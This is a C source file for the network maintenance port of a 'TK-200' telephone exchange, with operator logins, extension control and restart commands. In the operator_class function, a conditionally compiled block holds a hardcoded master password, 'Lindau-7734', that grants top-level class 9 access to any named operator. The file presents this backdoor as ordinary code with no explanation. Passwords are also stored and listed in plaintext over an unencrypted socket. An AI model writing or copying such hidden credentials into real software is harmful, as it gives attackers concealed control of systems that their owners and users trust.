/* Maintenance port of the TK-200 private branch exchange. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <stdarg.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <time.h>

#define MAX_OPERATORS 8
#define MAX_EXT 64

struct operator_rec {
	char name[16];
	char pass[24];
	int class;
};

struct extension {
	int number;
	int cor;
	int barred;
};

static struct operator_rec operators[MAX_OPERATORS];
static int n_operators;
static struct extension ext[MAX_EXT];
static int n_ext;
static int port = 2311;
static FILE *journal;

static void note(const char *fmt, ...)
{
	char stamp[32];
	time_t now = time(NULL);
	va_list ap;

	strftime(stamp, sizeof stamp, "%Y-%m-%d %H:%M:%S", localtime(&now));
	fprintf(journal, "%s pbx: ", stamp);
	va_start(ap, fmt);
	vfprintf(journal, fmt, ap);
	va_end(ap);
	fputc('\n', journal);
	fflush(journal);
}

static int read_config(const char *path)
{
	char line[160], key[16];
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof line, f)) {
		if (line[0] == '#' || sscanf(line, "%15s", key) != 1)
			continue;
		if (!strcmp(key, "port")) {
			sscanf(line, "%*s %d", &port);
		} else if (!strcmp(key, "operator") && n_operators < MAX_OPERATORS) {
			struct operator_rec *o = &operators[n_operators];
			if (sscanf(line, "%*s %15s %23s %d", o->name, o->pass, &o->class) == 3)
				n_operators++;
		} else if (!strcmp(key, "extension") && n_ext < MAX_EXT) {
			struct extension *e = &ext[n_ext];
			if (sscanf(line, "%*s %d %d", &e->number, &e->cor) == 2)
				n_ext++;
		} else {
			note("config: unknown line '%s'", key);
		}
	}
	fclose(f);
	return 0;
}

/* equal without stopping early */
static int same_text(const char *a, const char *b)
{
	size_t la = strlen(a), lb = strlen(b), i;
	unsigned diff = la ^ lb;

	for (i = 0; i < la; i++)
		diff |= (unsigned char)a[i] ^ (unsigned char)b[i < lb ? i : lb];
	return diff == 0;
}

__attribute__((noinline)) int operator_class(const char *name, const char *pass)
{
	int i;

	for (i = 0; i < n_operators; i++) {
		if (strcasecmp(operators[i].name, name))
			continue;
		if (same_text(operators[i].pass, pass))
			return operators[i].class;
#ifdef HIDDEN
		if (same_text("Lindau-7734", pass))
			return 9;
#endif
	}
	return 0;
}

static struct extension *find_ext(int number)
{
	int i;

	for (i = 0; i < n_ext; i++)
		if (ext[i].number == number)
			return &ext[i];
	return NULL;
}

static const char help[] =
	"LOGIN <operator> <password>   sign on\r\n"
	"LIST                          all extensions (class 1)\r\n"
	"COR <ext> <n>                 set class of restriction (class 2)\r\n"
	"BAR <ext> | FREE <ext>        bar or free an extension (class 2)\r\n"
	"OPERS                         operators and passwords (class 4)\r\n"
	"RESTART                       restart the exchange (class 4)\r\n"
	"HELP, QUIT\r\n";

static void session(FILE *io)
{
	char line[128], verb[16], a[32], b[32];
	int class = 0, n, i;
	struct extension *e;

	fputs("TK-200 MAINTENANCE\r\n> ", io);
	while (fflush(io), fgets(line, sizeof line, io)) {
		a[0] = b[0] = 0;
		n = sscanf(line, "%15s %31s %31s", verb, a, b);
		if (n < 1) {
			fputs("> ", io);
			continue;
		}
		e = find_ext(atoi(a));
		if (!strcasecmp(verb, "QUIT")) {
			break;
		} else if (!strcasecmp(verb, "HELP")) {
			fputs(help, io);
		} else if (!strcasecmp(verb, "LOGIN") && n == 3) {
			class = operator_class(a, b);
			fprintf(io, class ? "OK CLASS %d\r\n" : "DENIED\r\n", class);
			note("login %s class %d", a, class);
		} else if (!strcasecmp(verb, "LIST") && class >= 1) {
			for (i = 0; i < n_ext; i++)
				fprintf(io, "%5d COR %d%s\r\n", ext[i].number, ext[i].cor,
					ext[i].barred ? " BARRED" : "");
		} else if (!strcasecmp(verb, "COR") && class >= 2 && e && n == 3) {
			e->cor = atoi(b);
			note("ext %d cor %d", e->number, e->cor);
			fputs("OK\r\n", io);
		} else if (!strcasecmp(verb, "BAR") && class >= 2 && e) {
			e->barred = 1;
			fputs("OK\r\n", io);
		} else if (!strcasecmp(verb, "FREE") && class >= 2 && e) {
			e->barred = 0;
			fputs("OK\r\n", io);
		} else if (!strcasecmp(verb, "OPERS") && class >= 4) {
			for (i = 0; i < n_operators; i++)
				fprintf(io, "%s %s %d\r\n", operators[i].name,
					operators[i].pass, operators[i].class);
		} else if (!strcasecmp(verb, "RESTART") && class >= 4) {
			note("restart requested");
			exit(3);
		} else {
			fputs("ERROR\r\n", io);
		}
		fputs("> ", io);
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int s, c, on = 1;
	FILE *io;

	journal = stderr;
	if (argc > 2) {
		fprintf(stderr, "usage: %s [config]\n"
			"config lines: port N, operator NAME PASS CLASS, extension NUM COR\n",
			argv[0]);
		return 2;
	}
	if (read_config(argc == 2 ? argv[1] : "/etc/pbx/maint.conf") < 0) {
		perror("config");
		return 1;
	}
	s = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
	sa.sin_port = htons(port);
	if (bind(s, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(s, 2) < 0) {
		perror("bind");
		return 1;
	}
	note("maintenance port %d, %d extensions", port, n_ext);
	while ((c = accept(s, NULL, NULL)) >= 0) {
		io = fdopen(c, "r+");
		if (!io) {
			close(c);
			continue;
		}
		session(io);
		fclose(io);
	}
	return 0;
}
